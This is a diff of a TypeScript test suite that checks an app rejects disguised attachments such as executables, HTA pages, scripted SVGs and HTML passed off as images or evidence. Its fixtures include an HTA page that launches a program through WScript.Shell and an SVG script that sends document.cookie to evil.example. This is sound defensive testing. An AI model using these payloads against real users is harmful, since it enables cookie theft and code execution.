@@ -15,7 +15,7 @@ import { addOfficer } from '../../electron/bureau/officers.js';
 import { findOfficer, listBureauChecklistItems } from '../../electron/bureau/repository.js';
 import { detectFileKind } from '../../electron/packets/file-kind.js';
 import { generateSigningKeyPair, type KeyPairPem } from '../../electron/packets/keys.js';
-import type { Officer } from '../../shared/domain/index.js';
+import type { Officer } from '@shared/domain/index.js';
 import { makeTempDir, type TempDir } from '../helpers/temp-store.js';
 import { writeWeeklyPacket, type FixtureChange } from '../fixtures/bureau/weekly-packet.js';
 
@@ -30,8 +30,15 @@ const NOW = new Date('2026-11-24T10:00:00');
 const AT = '2026-11-20T02:00:00.000Z';
 const CREATED = '2026-11-23T09:00:00.000Z';
 
-const PE = Buffer.concat([Buffer.from('MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff', 'latin1'), Buffer.alloc(0x70), Buffer.from('PE\0\0L\x01', 'latin1'), Buffer.alloc(64)]);
-const HTA = Buffer.from('<html><head><HTA:APPLICATION ID="x" WINDOWSTATE="minimize"/><script language="VBScript">CreateObject("WScript.Shell").Run "calc"</script></head></html>');
+const PE = Buffer.concat([
+  Buffer.from('MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff', 'latin1'),
+  Buffer.alloc(0x70),
+  Buffer.from('PE\0\0L\x01', 'latin1'),
+  Buffer.alloc(64),
+]);
+const HTA = Buffer.from(
+  '<html><head><HTA:APPLICATION ID="x" WINDOWSTATE="minimize"/><script language="VBScript">CreateObject("WScript.Shell").Run "calc"</script></head></html>',
+);
 const SVG = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>fetch("http://evil.example/?"+document.cookie)</script></svg>');
 const HTML = Buffer.from('<!doctype html><script>alert(document.domain)</script>');
 const PDF = Buffer.from('%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n');
@@ -87,20 +94,59 @@ interface Attached {
 async function packetWith(files: readonly Attached[], extraEntries: { path: string; data: Buffer }[] = []): Promise<string> {
   const visitId = randomUUID();
   const changes: FixtureChange[] = [
-    { entity: 'visit', record: { id: visitId, projectId: P1(), visitedOn: '2026-11-18', kind: 'site_visit', participants: '', summary: '现场查看', findings: '', followUps: '', recordedAt: AT, recordedBy: '李明' } },
+    {
+      entity: 'visit',
+      record: {
+        id: visitId,
+        projectId: P1(),
+        visitedOn: '2026-11-18',
+        kind: 'site_visit',
+        participants: '',
+        summary: '现场查看',
+        findings: '',
+        followUps: '',
+        recordedAt: AT,
+        recordedBy: '李明',
+      },
+    },
   ];
   let eventId: string | null = null;
   if (files.some((f) => f.evidence)) {
     eventId = randomUUID();
     const item = listBureauChecklistItems(ctx.db, { projectId: P1() })[0]!;
-    changes.push({ entity: 'checklist_event', record: { id: eventId, itemId: item.id, action: 'close_off', effectiveOn: '2026-11-19', note: '批复已归档', attachmentId: null, recordedAt: AT, recordedBy: '李明' } });
+    changes.push({
+      entity: 'checklist_event',
+      record: {
+        id: eventId,
+        itemId: item.id,
+        action: 'close_off',
+        effectiveOn: '2026-11-19',
+        note: '批复已归档',
+        attachmentId: null,
+        recordedAt: AT,
+        recordedBy: '李明',
+      },
+    });
   }
   const photos = new Map<string, Buffer>();
   const missing: string[] = [];
   for (const f of files) {
     const id = randomUUID();
     const owner = f.evidence ? { ownerKind: 'checklist_event', ownerId: eventId! } : { ownerKind: 'visit', ownerId: visitId };
-    changes.push({ entity: 'attachment', record: { id, ...owner, fileName: f.fileName, mimeType: f.mimeType, sha256: sha(f.data), bytes: f.data.length, width: null, height: null, recordedAt: AT } });
+    changes.push({
+      entity: 'attachment',
+      record: {
+        id,
+        ...owner,
+        fileName: f.fileName,
+        mimeType: f.mimeType,
+        sha256: sha(f.data),
+        bytes: f.data.length,
+        width: null,
+        height: null,
+        recordedAt: AT,
+      },
+    });
     if (f.withoutFile) missing.push(id);
     else photos.set(id, f.data);
   }
@@ -134,13 +180,19 @@ function snapshot() {
 describe('bureau ingest: attachments are what they claim', () => {
   // Functions: the images are made in beforeAll, after this table is built.
   const refused: { kind: string; files: () => Attached[] }[] = [
-    { kind: 'a Windows program as itself (setup.exe, application/x-msdownload)', files: () => [{ fileName: 'setup.exe', mimeType: 'application/x-msdownload', data: PE }] },
+    {
+      kind: 'a Windows program as itself (setup.exe, application/x-msdownload)',
+      files: () => [{ fileName: 'setup.exe', mimeType: 'application/x-msdownload', data: PE }],
+    },
     { kind: 'a Windows program named site.jpg, claimed image/jpeg', files: () => [{ fileName: 'site.jpg', mimeType: 'image/jpeg', data: PE }] },
     { kind: 'an HTA page (photo.hta, application/hta)', files: () => [{ fileName: 'photo.hta', mimeType: 'application/hta', data: HTA }] },
     { kind: 'an HTA page named site.jpg, claimed image/jpeg', files: () => [{ fileName: 'site.jpg', mimeType: 'image/jpeg', data: HTA }] },
     { kind: 'an SVG with a script (site.svg, image/svg+xml)', files: () => [{ fileName: 'site.svg', mimeType: 'image/svg+xml', data: SVG }] },
     { kind: 'an SVG claimed image/png', files: () => [{ fileName: 'site.png', mimeType: 'image/png', data: SVG }] },
-    { kind: 'a PNG named site.jpg and claimed image/jpeg (the MIME type does not match the bytes)', files: () => [{ fileName: 'site.jpg', mimeType: 'image/jpeg', data: PNG }] },
+    {
+      kind: 'a PNG named site.jpg and claimed image/jpeg (the MIME type does not match the bytes)',
+      files: () => [{ fileName: 'site.jpg', mimeType: 'image/jpeg', data: PNG }],
+    },
     { kind: 'an HTML page as close-off evidence', files: () => [{ fileName: '批复.html', mimeType: 'text/html', data: HTML, evidence: true }] },
     { kind: 'a PDF as a visit photo', files: () => [{ fileName: 'site.pdf', mimeType: 'application/pdf', data: PDF }] },
     {
@@ -150,7 +202,10 @@ describe('bureau ingest: attachments are what they claim', () => {
         { fileName: 'b.jpg', mimeType: 'image/jpeg', data: PE },
       ],
     },
-    { kind: 'the record of a Windows program whose file did not travel', files: () => [{ fileName: 'setup.exe', mimeType: 'application/x-msdownload', data: PE, withoutFile: true }] },
+    {
+      kind: 'the record of a Windows program whose file did not travel',
+      files: () => [{ fileName: 'setup.exe', mimeType: 'application/x-msdownload', data: PE, withoutFile: true }],
+    },
   ];
 
   for (const c of refused) {
@@ -233,7 +288,11 @@ describe('bureau ingest: attachments are what they claim', () => {
       .filter((name) => statSync(join(dir.file('bureau'), name)).isFile());
     expect(bureauFiles.filter((name) => /\.(html?|hta|svg|xlsx|exe)$/i.test(name))).toEqual([]);
     for (const name of bureauFiles) expect(readFileSync(join(dir.file('bureau'), name)).includes(marker), relative(dir.path, name)).toBe(false);
-    expect(Object.keys(filesUnder(ctx.filesDir)).filter((n) => n.includes('.')).map((n) => n.replace(/^.*\./, ''))).toEqual(['jpg']);
+    expect(
+      Object.keys(filesUnder(ctx.filesDir))
+        .filter((n) => n.includes('.'))
+        .map((n) => n.replace(/^.*\./, '')),
+    ).toEqual(['jpg']);
   });
 
   it('the one byte detector both sides use tells the four kinds and nothing else', () => {
